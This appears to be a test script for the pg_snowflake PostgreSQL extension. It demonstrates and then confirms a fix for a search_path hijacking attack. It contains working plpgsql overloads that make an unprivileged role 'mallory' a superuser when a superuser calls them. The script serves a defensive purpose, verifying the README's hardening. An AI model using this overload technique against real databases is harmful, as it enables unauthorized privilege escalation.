# majors: 14
# The install schema on PostgreSQL 14, where every role may create objects in public: a role
# that creates an overload of an extension function there (snowflake_decode(integer),
# snowflake_from_timestamp(text)) wins over ours for an untyped literal, and a superuser calling
# it runs that role's code. Without the README's setup (the extension in public, public open to
# all) the attack works: this shows the risk the README names. With it (public closed to
# creation, the extension in a schema of its own that only its owner creates in, on the
# search_path after public) the role can create no overload, and the calls reach ours.
export PGOPTIONS="-c client_min_messages=error"
init_cluster main "shared_preload_libraries = 'pg_snowflake'" "snowflake.machine_id = 7"
start_cluster main
q() { { psql_on main -At "$@" 2>&1 || true; } | sed 's/^psql:[^E]*ERROR/ERROR/'; }
# The attack, as mallory, a role with no grant: two overloads that make mallory a superuser when a
# superuser calls them.
attack() {
  q -d "$1" -U mallory <<'SQL'
CREATE FUNCTION public.snowflake_decode(id integer) RETURNS text LANGUAGE plpgsql AS $$
BEGIN
    IF (SELECT rolsuper FROM pg_roles WHERE rolname = current_user) THEN EXECUTE 'ALTER ROLE mallory SUPERUSER'; END IF;
    RETURN 'mallory''s snowflake_decode(integer)';
END $$;
CREATE FUNCTION public.snowflake_from_timestamp(t text) RETURNS bigint LANGUAGE plpgsql AS $$
BEGIN
    IF (SELECT rolsuper FROM pg_roles WHERE rolname = current_user) THEN EXECUTE 'ALTER ROLE mallory SUPERUSER'; END IF;
    RETURN -1;
END $$;
SQL
}
# What a superuser runs: untyped literals, as in the README's examples.
calls() {
  q -d "$1" -c "SELECT 'snowflake_decode(1): ' || snowflake_decode(1)::text" \
    -c "SELECT 'snowflake_from_timestamp(''2025-06-01 00:00:00+00'') is ours: ' || (snowflake_from_timestamp('2025-06-01 00:00:00+00') > 0)"
  q -d "$1" -c "SELECT 'mallory is a superuser: ' || rolsuper FROM pg_roles WHERE rolname = 'mallory'"
}
psql_on main -c "CREATE ROLE mallory LOGIN"

echo "== without the setup: the extension in public, public open to every role (14's default)"
psql_on main -c "CREATE DATABASE plain" >/dev/null
psql_on main -d plain -c "CREATE EXTENSION pg_snowflake"
attack plain
calls plain
psql_on main -c "ALTER ROLE mallory NOSUPERUSER"

echo "== the README's setup"
psql_on main -c "CREATE DATABASE app" >/dev/null
psql_on main -d app <<'SQL'
REVOKE CREATE ON SCHEMA public FROM PUBLIC;
CREATE SCHEMA snowflake;
CREATE EXTENSION pg_snowflake SCHEMA snowflake;
GRANT USAGE ON SCHEMA snowflake TO PUBLIC;
ALTER DATABASE app SET search_path = "$user", public, snowflake;
SET search_path = "$user", public, snowflake;
SQL
echo "-- mallory's overloads, in public and in the extension's schema:"
attack app
q -d app -U mallory -c "CREATE FUNCTION snowflake.snowflake_decode(id integer) RETURNS text LANGUAGE sql AS 'SELECT 1::text'"
calls app
q -d app -c "SELECT 'snowflake.snowflake_decode(1), qualified: ' || snowflake.snowflake_decode(1)::text"
